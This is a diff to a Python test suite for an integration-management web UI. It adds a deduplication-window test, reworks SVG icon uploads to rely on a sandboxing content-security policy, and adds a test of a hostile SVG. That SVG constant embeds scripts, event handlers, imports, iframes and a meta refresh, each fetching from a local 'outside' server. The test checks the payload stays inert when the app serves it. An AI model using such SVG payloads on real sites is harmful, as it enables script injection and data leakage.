@@ -6,8 +6,11 @@ import json
 import re
 import subprocess
 import sys
+import threading
+import time
 from collections.abc import Iterator
 from html.parser import HTMLParser
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 from uuid import UUID
 
@@ -174,6 +177,26 @@ def test_the_form_saves_what_it_shows(house: House, users: Users, name: str) -> 
         },
     )
     assert "Orders &lt;b&gt;" in shop.get(f"/integrations/{name}").text
+
+
+def test_another_window_is_explained_and_counts_at_once(house: House, users: Users, name: str) -> None:
+    """What it means stands beside it while it isn't published; then what was sent before goes by it, too."""
+    admin = users.admin
+    declared = {"name": name, "state": "published", "dags": ["one"]}
+    house.apply({**declared, "deduplication": {"parameters": ["body.id"], "window": "7d"}})
+    assert [house.post(name, {"id": 1}).status_code for _ in range(2)] == [200, 204]
+    assert "the window from" not in admin.get(f"/integrations/{name}").text
+    longer = admin.post(f"/integrations/{name}/sections/deduplication", admin.form(name, window=["14d"]))
+    assert "This lengthens the window from 7d to 14d" in longer.text
+    shorter = admin.form(name, window=["2s"])
+    section = admin.post(f"/integrations/{name}/sections/deduplication", {**shorter, "action": ["apply"]})
+    assert "This shortens the window from 7d to 2s" in section.text
+    assert admin.post(f"/integrations/{name}/save", shorter).status_code == 303
+    assert "This shortens the window from 7d to 2s" in admin.get(f"/integrations/{name}").text
+    assert admin.post(f"/integrations/{name}/publish", admin.form(name)).status_code == 303
+    assert "the window from" not in admin.get(f"/integrations/{name}").text
+    time.sleep(3)
+    assert [house.post(name, {"id": 1}).status_code for _ in range(2)] == [200, 204]
 
 
 def test_mistakes_are_shown_together_and_nothing_is_saved(house: House, users: Users, name: str) -> None:
@@ -468,18 +491,28 @@ def test_icons_are_pictures_and_nothing_else(house: House, users: Users) -> None
 
 
 def test_an_upload_becomes_a_choice(house: House, users: Users) -> None:
-    """What is wrong with a file is said beside it; what is kept is the cleaned picture."""
+    """What is wrong with a file is said beside it; what is kept is the file."""
     shop = users.shop
-    bad = shop.post("/icons/", files={"file": ("x.svg", b"<svg viewBox='0 0 1 1'><script/></svg>")})
-    assert (bad.status_code, "may not have" in bad.text) == (422, True)
+    bad = shop.post("/icons/", files={"file": ("x.svg", b"<html/>")})
+    assert (bad.status_code, "neither a PNG nor an SVG" in bad.text) == (422, True)
     drawing = b'<svg viewBox="0 0 9 9"><path d="M0 0h9" onload="alert(1)"/></svg>'
-    good = shop.post("/icons/", files={"file": ("x.svg", drawing)})
-    assert good.status_code == 200
-    [name] = re.findall(r'value="(upload-[0-9a-f]{32})" checked', good.text)
+    name = upload(shop, drawing)
     kept = shop.get(f"/icons/{name}")
-    assert b"onload" not in kept.content
+    assert (kept.content, kept.headers["content-type"]) == (drawing, "image/svg+xml")
+    alike = ("content-security-policy", "x-content-type-options")
+    assert [kept.headers[name] for name in alike] == [
+        "default-src 'none'; style-src 'unsafe-inline'; sandbox",
+        "nosniff",
+    ]
     assert "immutable" in kept.headers["cache-control"]
     assert users.viewer.post("/icons/", files={"file": ("x.svg", drawing)}).status_code == 403
+
+
+def upload(user: Session, drawing: bytes) -> str:
+    answer = user.post("/icons/", files={"file": ("x.svg", drawing)})
+    assert answer.status_code == 200
+    [name] = re.findall(r'value="(upload-[0-9a-f]{32})" checked', answer.text)
+    return name
 
 
 # --- Snippets
@@ -550,6 +583,79 @@ def page(browser: Browser, house: House) -> Any:
     yield page
     context.close()
     assert problems == []
+
+
+#: A picture that tries what pictures can do elsewhere.
+HOSTILE = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+  viewBox="0 0 9 9" width="90" height="90" onload="fetch('{to}/onload')">
+  <style>@import url({to}/import); path {{ fill: red; mask: url({to}/mask#m) }}</style>
+  <script>fetch("{to}/script"); document.title = "taken"</script>
+  <script href="{to}/script.js"/>
+  <image href="{to}/image" width="1" height="1" onerror="fetch('{to}/onerror')"/>
+  <use xlink:href="{to}/use#x"/>
+  <foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">
+    <iframe src="{to}/iframe"/><img src="{to}/img" alt=""/><script>fetch("{to}/inner")</script>
+    <meta http-equiv="refresh" content="0;url={to}/refresh"/>
+  </div></foreignObject>
+  <path d="M0 0h9v9z"/><animate attributeName="x" onbegin="fetch('{to}/onbegin')" dur="1s"/>
+</svg>"""
+
+
+class Outside:
+    """A server that no picture may reach; it has the hostile one itself, without any policy."""
+
+    def __init__(self) -> None:
+        asked: set[str] = set()
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                told = HOSTILE.format(to=outside.url).encode() if self.path == "/picture.svg" else b""
+                asked.add(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/svg+xml")
+                self.send_header("Content-Length", str(len(told)))
+                self.end_headers()
+                self.wfile.write(told)
+
+            def log_message(self, *_: object) -> None: ...
+
+        outside, self.asked = self, asked
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def outside() -> Iterator[Outside]:
+    outside = Outside()
+    yield outside
+    outside.server.shutdown()
+    outside.server.server_close()
+
+
+def test_a_hostile_picture_does_nothing(
+    browser: Browser, house: House, users: Users, outside: Outside
+) -> None:
+    """It is shown, in a page and by itself, and neither runs nor fetches; elsewhere it does both."""
+    name = upload(users.shop, HOSTILE.format(to=outside.url).encode())
+    house.apply({"name": "hostile-picture", "icon": name, "dags": ["one"]})
+    context = browser.new_context(base_url=f"{house.airflow.url}/pluginsv2/incoming-ui/")
+    context.add_cookies([{"name": "_token", "value": house.airflow.token("shop"), "url": house.airflow.url}])
+    with context.new_page() as page:
+        page.goto("integrations/hostile-picture")
+        shown = page.locator(f"img[src$='{name}']").first
+        expect(shown).to_have_js_property("complete", True)  # the property's value
+        assert shown.evaluate("image => image.naturalWidth") > 0
+        page.wait_for_timeout(500)
+        page.goto(f"icons/{name}")
+        assert page.locator("path").count() == 1
+        page.wait_for_timeout(1000)
+        assert page.title() != "taken"
+        assert page.url.endswith(name)
+        assert outside.asked == set()
+        page.goto(f"{outside.url}/picture.svg")
+        wait_until(lambda: {"/script", "/import"} <= outside.asked, seconds=20, what="the picture to act")
+    context.close()
 
 
 def define(page: Page, section: str) -> Locator:
